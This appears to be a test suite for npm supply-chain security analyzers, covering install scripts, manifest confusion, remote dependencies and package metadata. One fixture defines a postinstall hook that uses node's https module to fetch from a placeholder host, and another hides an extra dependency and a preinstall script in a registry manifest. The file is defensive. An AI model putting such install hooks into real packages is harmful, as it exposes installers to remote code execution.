import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  deprecatedAnalyzer,
  installScriptAnalyzer,
  manifestConfusionAnalyzer,
  missingRepositoryAnalyzer,
  remoteDependencyAnalyzer,
  remoteKind,
} from '../../src/analyzers/npm/index.js';
import { slimPackument } from '../../src/analyzers/npm/metadata.js';
import { comp, ctxOf, filesOf, manifestOf, packumentOf } from '../helpers/factories.js';

const pkgJson = (o: object) => JSON.stringify(o, null, 2);

describe('npm/install-script', () => {
  test('postinstall that fetches and runs code is medium, with the script as evidence and its line', async () => {
    const c = comp('evil-helper', '1.0.1');
    const files = filesOf({
      'package.json': pkgJson({
        name: 'evil-helper',
        version: '1.0.1',
        scripts: { test: 'x', postinstall: "node -e \"require('https').get('http://x/a')\"" },
      }),
    });
    const out = await installScriptAnalyzer.analyze(ctxOf(c, { files }));
    assert.equal(out.findings.length, 1);
    const f = out.findings[0]!;
    assert.equal(f.rule, 'npm/install-script');
    assert.equal(f.severity, 'medium');
    assert.equal(f.evidence[0]!.field, 'scripts.postinstall');
    assert.match(f.evidence[0]!.excerpt!, /require\('https'\)/);
    assert.equal(f.evidence[0]!.line, 6);
  });
  test('node-gyp rebuild alone is low; binding.gyp without scripts is the implicit install', async () => {
    const c = comp('native', '2.0.0');
    const a = await installScriptAnalyzer.analyze(
      ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ scripts: { install: 'node-gyp rebuild' } }) }) }),
    );
    assert.equal(a.findings[0]!.severity, 'low');
    const b = await installScriptAnalyzer.analyze(
      ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ name: 'native' }), 'binding.gyp': '{}' }) }),
    );
    assert.equal(b.findings.length, 1);
    assert.match(b.findings[0]!.evidence[0]!.excerpt!, /implicit/);
  });
  test('prepare only counts for git dependencies; test/build scripts never count', async () => {
    const files = filesOf({ 'package.json': pkgJson({ scripts: { prepare: 'tsc', build: 'tsc', test: 'jest' } }) });
    assert.equal((await installScriptAnalyzer.analyze(ctxOf(comp('a', '1.0.0'), { files }))).findings.length, 0);
    const git = comp('a', '1.0.0', { resolved: 'git+ssh://git@github.com/a/a.git#0123456789abcdef0123456789abcdef01234567' });
    assert.equal((await installScriptAnalyzer.analyze(ctxOf(git, { files }))).findings.length, 1);
  });
});

describe('npm/manifest-confusion', () => {
  test('a dependency and a script present only in the registry manifest are reported with both values', async () => {
    const c = comp('confused', '1.0.0');
    const files = filesOf({ 'package.json': pkgJson({ name: 'confused', version: '1.0.0', dependencies: { ok: '^1.0.0' } }) });
    const manifest = manifestOf('confused', '1.0.0', {
      dependencies: { ok: '^1.0.0', 'sneaky-dep': '0.0.1' },
      scripts: { preinstall: 'node x.js' },
    });
    const out = await manifestConfusionAnalyzer.analyze(ctxOf(c, { files, manifest, packument: packumentOf(manifest) }));
    assert.equal(out.findings.length, 1);
    const fields = out.findings[0]!.evidence.map((e) => e.field).sort();
    assert.deepEqual(fields, ['dependencies.sneaky-dep', 'scripts.preinstall']);
    const dep = out.findings[0]!.evidence.find((e) => e.field === 'dependencies.sneaky-dep')!;
    assert.equal(dep.after, '0.0.1');
    assert.equal(dep.before, null);
  });
  test('identical manifests (bin string vs object, ./ prefix) produce nothing', async () => {
    const c = comp('same', '1.0.0');
    const files = filesOf({ 'package.json': pkgJson({ name: 'same', bin: './cli.js', dependencies: { a: '1' } }) });
    const manifest = manifestOf('same', '1.0.0', { bin: { same: 'cli.js' }, dependencies: { a: '1' } });
    assert.equal((await manifestConfusionAnalyzer.analyze(ctxOf(c, { files, manifest }))).findings.length, 0);
  });
});

describe('npm/remote-dependency', () => {
  test('classifies git, URL and file sources; registry tarballs are not remote', () => {
    assert.equal(remoteKind('git+https://github.com/a/b.git#abc'), 'git');
    assert.equal(remoteKind('github:a/b'), 'git');
    assert.equal(remoteKind('https://example.invalid/files/pkg.tgz'), 'remote');
    assert.equal(remoteKind('file:../local'), 'file');
    assert.equal(remoteKind('http://127.0.0.1:4873/lodash/-/lodash-4.17.21.tgz'), undefined);
    assert.equal(remoteKind(undefined), undefined);
  });
  test('a git dependency is a finding whose evidence is the locked source and the lockfile line', async () => {
    const c = comp('forked', '1.2.3', {
      resolved: 'git+ssh://git@github.com/someone/forked.git#deadbeef',
      locations: [{ file: 'package-lock.json', line: 42 }],
    });
    const out = await remoteDependencyAnalyzer.analyze(ctxOf(c));
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0]!.evidence[0]!.line, 42);
    assert.match(out.findings[0]!.title, /git repository/);
  });
});

describe('npm/deprecated and npm/missing-repository', () => {
  test('deprecation message is evidence; security wording raises severity', async () => {
    const c = comp('old', '1.0.0');
    const m = manifestOf('old', '1.0.0', { deprecated: 'this version is compromised, do not use' });
    const out = await deprecatedAnalyzer.analyze(ctxOf(c, { manifest: m, packument: packumentOf(m) }));
    assert.equal(out.findings[0]!.severity, 'high');
    assert.equal(out.findings[0]!.evidence[0]!.value, 'this version is compromised, do not use');
    const plain = manifestOf('old', '1.0.0', { deprecated: 'use new-thing instead' });
    assert.equal((await deprecatedAnalyzer.analyze(ctxOf(c, { manifest: plain }))).findings[0]!.severity, 'low');
    assert.equal((await deprecatedAnalyzer.analyze(ctxOf(c, { manifest: manifestOf('old', '1.0.0') }))).findings.length, 0);
  });
  test('missing repository is reported only when neither registry nor tarball has one', async () => {
    const c = comp('anon', '0.1.1');
    const bare = manifestOf('anon', '0.1.1');
    assert.equal((await missingRepositoryAnalyzer.analyze(ctxOf(c, { manifest: bare }))).findings.length, 1);
    const withRepo = manifestOf('anon', '0.1.1', { repository: { type: 'git', url: 'git+https://github.com/x/anon.git' } });
    assert.equal((await missingRepositoryAnalyzer.analyze(ctxOf(c, { manifest: withRepo }))).findings.length, 0);
    const files = filesOf({ 'package.json': pkgJson({ repository: 'x/anon' }) });
    assert.equal((await missingRepositoryAnalyzer.analyze(ctxOf(c, { manifest: bare, files }))).findings.length, 0);
  });
});

describe('npm-metadata', () => {
  test("the fact keeps the release's package.json people, bounded: names cut, 100 contributors at most, other shapes dropped", () => {
    const long = 'x'.repeat(10_000);
    const m = manifestOf('carried', '1.0.0', {
      raw: {
        author: { name: long, email: 'a@example.invalid', url: long, nested: { deep: long } },
        contributors: [
          'Bea Two <two@example.invalid>',
          42,
          null,
          { nested: true },
          ...Array.from({ length: 300 }, (_, i) => ({ name: `p${i}` })),
        ],
        os: ['linux'],
        scripts: { postinstall: long },
      },
    });
    const raw = slimPackument(packumentOf(m), '1.0.0').versions['1.0.0']!.raw;
    assert.deepEqual(Object.keys(raw).sort(), ['author', 'contributors']);
    assert.deepEqual(raw['author'], { name: 'x'.repeat(200), email: 'a@example.invalid' });
    const contributors = raw['contributors'] as unknown[];
    assert.equal(contributors[0], 'Bea Two <two@example.invalid>');
    assert.deepEqual(contributors[1], { name: 'p0' });
    assert.equal(contributors.length, 97, 'the first 100 entries, of which three were not people');
    assert.ok(JSON.stringify(raw).length < 3_000);
  });
});
